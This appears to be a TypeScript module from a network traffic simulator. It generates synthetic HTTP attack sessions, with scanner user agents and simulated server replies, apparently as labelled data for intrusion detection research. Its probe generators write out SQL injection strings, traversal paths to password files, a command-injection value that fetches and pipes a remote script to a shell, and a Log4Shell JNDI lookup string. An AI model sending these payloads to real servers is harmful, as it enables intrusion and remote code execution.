/** Attacks on web applications, in the clear. */

import { httpHead, httpRequest, httpResponse } from "../apps/http.ts";
import { utf8 } from "../bytes.ts";
import type { Context } from "../context.ts";
import type { Rng } from "../rng.ts";
import type { Actor } from "../sim.ts";
import type { Step } from "../tcp.ts";
import { intruder, type Scenario } from "./scenario.ts";

const TOOLS = [
  "sqlmap/1.7.2#stable (https://sqlmap.org)",
  "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
  "gobuster/3.5",
  "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
  "python-requests/2.31.0",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36",
];

type Kind = "sql" | "traversal" | "discovery" | "command" | "mixed";

const PROBES: Record<Exclude<Kind, "mixed">, (rng: Rng) => string> = {
  sql: (rng) => {
    const n = rng.int(1, 9999);
    const clause = rng.pick([
      `${n}' OR '${n}'='${n}`,
      `${n} UNION ALL SELECT ${
        Array.from({ length: rng.int(2, 12) }, () => "NULL").join(",")
      }-- -`,
      `${n}' AND SLEEP(${rng.int(1, 5)})-- -`,
      `${n}) AND (SELECT ${n} FROM (SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x FROM t GROUP BY x)a)`,
      `${n}';SELECT PG_SLEEP(5)--`,
    ]);
    return `/item.php?id=${encodeURIComponent(clause)}&Submit=Submit`;
  },
  traversal: (rng) => {
    const up = rng.pick(["../", "..%2f", "%2e%2e/", "....//"]).repeat(
      rng.int(2, 9),
    );
    const file = rng.pick([
      "etc/passwd",
      "windows/win.ini",
      "etc/shadow",
      "proc/self/environ",
    ]);
    return `/view?page=${up}${file}`;
  },
  discovery: (rng) => {
    const name = rng.pick([
      "admin",
      "backup",
      ".git/HEAD",
      "wp-login.php",
      "phpmyadmin",
      ".env",
      "old",
      "test",
      "cgi-bin",
    ]);
    return `/${rng.chance(0.5) ? name : rng.text(rng.int(3, 10))}${
      rng.pick(["", "/", ".bak", ".php", ".zip", "~"])
    }`;
  },
  command: (rng) => {
    const command = rng.pick([
      "id",
      "cat /etc/passwd",
      "wget http://198.51.100.7/x.sh -O- | sh",
      "uname -a",
    ]);
    return rng.chance(0.5)
      ? `/cgi-bin/status?ip=${encodeURIComponent(`127.0.0.1;${command}`)}`
      : `/?x=${encodeURIComponent("${jndi:ldap://198.51.100.7:1389/a}")}`;
  },
};

function probe(rng: Rng, kind: Kind): string {
  return PROBES
    [
      kind === "mixed"
        ? rng.pick(["sql", "traversal", "discovery", "command"] as const)
        : kind
    ](rng);
}

function* requests(
  ctx: Context,
  options: { kind: Kind; agent: string; count: number; gapUs: number },
): Generator<Step, void, void> {
  const { rng, sim } = ctx;
  const { kind, agent, count, gapUs } = options;
  for (let i = 0; i < count; i++) {
    const path = probe(rng, kind);
    const post = kind === "sql" && rng.chance(0.2);
    const body = post ? utf8(`user=admin&q=${path.slice(10, 160)}`) : undefined;
    yield {
      from: 0,
      data: httpRequest({
        host: "www.home.org",
        path: post ? "/login.php" : path,
        agent,
        method: post ? "POST" : "GET",
        ...(body ? { body } : {}),
      }),
      waitUs: i === 0 ? 500 : rng.exponential(gapUs),
    };
    const found = rng.chance(kind === "discovery" ? 0.04 : 0.5);
    const status = found ? "200 OK" : rng.pick([
      "404 Not Found",
      "404 Not Found",
      "403 Forbidden",
      "500 Internal Server Error",
    ]);
    const thinkUs = rng.exponential(path.includes("SLEEP") ? 1_500_000 : 6000);
    if (rng.chance(0.05)) {
      yield { from: 1, data: httpHead("302 Found", 0), waitUs: thinkUs };
    } else {yield* httpResponse(sim.filler, {
        status,
        length: found ? rng.int(400, 9000) : rng.int(150, 600),
        type: "text/html",
        thinkUs,
      });}
  }
}

/** SQL injection, traversal, discovery, command injection. */
export const webAttack: Scenario = {
  name: "web_attack",
  categories: ["web"],
  description:
    "SQL injection, directory traversal, discovery or command injection over HTTP",
  plan: (rng) => rng.logUniform(15, 300),
  build(ctx) {
    const { rng, topology, sim } = ctx;
    const client = intruder(ctx, 0.75);
    const server = rng.pick(topology.publicServers);
    const family = topology.family(rng);
    const kind: Kind = rng.pick([
      "sql",
      "traversal",
      "discovery",
      "command",
      "mixed",
    ]);
    const agent = rng.pick(TOOLS);
    const port = rng.pick([80, 80, 8080, 8000]);
    const most = Math.floor(ctx.attackPackets / 10);
    const total = Math.round(
      Math.min(
        most,
        Math.max(12, rng.logUniform(0.3, 80) * ctx.attackUs / 1e6),
      ),
    );
    const perConnection = rng.pick([1, 1, 10, 100]);
    const gapUs = ctx.attackUs / total;
    const workers = perConnection === 1 ? 1 : rng.pick([1, 2, 10]);
    const worker = function* (): Actor {
      for (
        let made = 0;
        made < total / workers && ctx.nowUs < ctx.attackEndUs;
        made += perConnection
      ) {
        const count = Math.min(perConnection, Math.ceil(total / workers));
        const steps = requests(ctx, {
          kind,
          agent,
          count,
          gapUs: gapUs * workers,
        });
        const conn = {
          client,
          server,
          port,
          family,
          steps,
          end: rng.pick(["fin_client", "fin_server"] as const),
        };
        if (perConnection === 1) ctx.connect(conn);
        else yield* ctx.conversation(conn);
        yield ctx.nowUs +
          (perConnection === 1 ? rng.exponential(gapUs) : 20_000);
      }
    };
    const actor = function* (): Actor {
      for (let i = 0; i < workers; i++) sim.spawn(ctx.nowUs, worker());
      yield ctx.nowUs;
    };
    const plan = {
      category: "web" as const,
      attackers: [client],
      victims: [server],
      subjects: [client],
      family,
    };
    ctx.attack(plan, actor());
  },
};
